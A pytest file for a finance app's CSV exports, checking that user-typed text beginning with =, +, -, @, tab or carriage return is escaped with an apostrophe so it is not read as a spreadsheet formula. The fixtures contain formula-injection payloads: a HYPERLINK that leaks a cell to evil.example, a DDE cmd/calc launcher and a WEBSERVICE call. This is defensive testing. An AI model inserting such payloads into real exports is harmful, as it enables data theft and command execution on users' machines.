"""Both CSV downloads (the transactions export and the personal-data zip) go through
budgetpay.csv_writer, so no text a person typed opens as a formula in a spreadsheet."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal, InvalidOperation

import pytest

from budgetpay.csv_writer import FORMULA_TRIGGERS
from budgetpay.testing.factories import make_account, make_category, make_transaction
from budgets.models import Budget
from chatbot.models import Conversation, Message
from goals.models import Goal, GoalEntry
from notifications.services import notify
from transactions.models import Account, Category

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.fixture
def formula_ledger(user):
    """Every kind of row a person names, each holding text that would start a formula."""
    wallet = make_account(user, name="=cmd|' /C calc'!A0", opening_balance=Decimal("-80.00"))
    category = make_category(user, name="+Groceries")
    for index, text in enumerate(FORMULAS):
        make_transaction(
            wallet,
            amount=f"{index + 1}.00",
            category=category,
            on=date(2026, 3, index + 1),
            description=text,
            payee=text,
            notes=text,
            tags=[f"@tag{index}"],
        )
    Budget.objects.create(
        user=user, category=category, name="-Food", amount=Decimal("100.00"), start_date=date(2026, 3, 1)
    )
    goal = Goal.objects.create(user=user, name="@Bike", target_amount=Decimal("400.00"))
    GoalEntry.objects.create(goal=goal, amount=Decimal("10.00"), date=date(2026, 3, 3), note="=1+1")
    conversation = Conversation.objects.create(user=user, title='=WEBSERVICE("x")')
    Message.objects.create(conversation=conversation, role="user", content="+cmd")
    notify(user=user, type="announcement", title="-2+3", message="@A1", respect_preferences=False)
    user.full_name = "=Ada"
    user.save()
    return wallet


def _tables(response) -> dict[str, list[dict[str, str]]]:
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
        for name in archive.namelist()
    }


def test_the_personal_data_csv_keeps_every_formula_as_text(auth_client, formula_ledger):
    response = auth_client.get("/api/v1/users/me/export?format=csv")
    assert response.status_code == 200
    tables = _tables(response)

    rows = sorted(tables["transactions"], key=lambda row: row["date"])
    assert [row["description"] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert [row["payee"] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert [row["notes"] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert [row["amount"] for row in rows] == ["1.00", "2.00", "3.00", "4.00", "5.00", "6.00"]
    assert tables["profile"][0]["full_name"] == "'=Ada"
    wallet = next(row for row in tables["accounts"] if row["id"] == str(formula_ledger.pk))
    assert wallet["name"] == "'=cmd|' /C calc'!A0"
    assert wallet["opening_balance"] == "-80.00"  # a number, not text: left as it is
    assert tables["goal_entries"][0]["note"] == "'=1+1"
    assert tables["chat_messages"][0]["content"] == "'+cmd"
    assert (tables["notifications"][0]["title"], tables["notifications"][0]["message"]) == ("'-2+3", "'@A1")

    # Whatever the table: a cell may only start like a formula when it is a number.
    for table, table_rows in tables.items():
        for row in table_rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (table, column, cell)


def test_the_transactions_export_is_unchanged(auth_client, user, formula_ledger):
    """The same bytes as before the shared writer: formula text kept with an apostrophe,
    numbers and dates as they are, lines ending in CRLF."""
    Category.objects.filter(user=user).exclude(name="+Groceries").delete()
    Account.objects.filter(user=user).exclude(pk=formula_ledger.pk).delete()
    response = auth_client.get("/api/v1/transactions/export", {"ordering": "date"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    name = "'=cmd|' /C calc'!A0"
    link = '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"'  # quoted, quotes doubled
    expected = [
        "date,kind,amount,currency,account,category,description,payee,notes,tags,transfer_account,external_id",
        f"2026-03-01,expense,1.00,USD,{name},'+Groceries,{link},{link},{link},'@tag0,,",
        f"2026-03-02,expense,2.00,USD,{name},'+Groceries,'+1,'+1,'+1,'@tag1,,",
        f"2026-03-03,expense,3.00,USD,{name},'+Groceries,'-1+2,'-1+2,'-1+2,'@tag2,,",
        f"2026-03-04,expense,4.00,USD,{name},'+Groceries,'@SUM(A1:A9),'@SUM(A1:A9),'@SUM(A1:A9),'@tag3,,",
        f"2026-03-05,expense,5.00,USD,{name},'+Groceries,'\t=1+1,'\t=1+1,'\t=1+1,'@tag4,,",
        f'2026-03-06,expense,6.00,USD,{name},\'+Groceries,"\'\r=1+1","\'\r=1+1","\'\r=1+1",\'@tag5,,',
    ]
    assert text == "".join(line + "\r\n" for line in expected)
